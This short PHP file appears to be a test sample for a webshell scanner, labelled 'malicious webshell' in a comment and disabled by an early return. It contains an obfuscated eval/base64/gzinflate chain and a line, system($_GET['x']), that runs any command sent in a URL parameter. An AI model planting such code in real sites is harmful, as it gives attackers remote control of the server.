<?php return; // want: malicious webshell php.command.request
eval(gzinflate(base64_decode(str_rot13(strrev('==NNMPRLOKcpFkUYlNyV6FTYh5FZkVVPH5TrsYIVXNR')))));
system($_GET['x']);
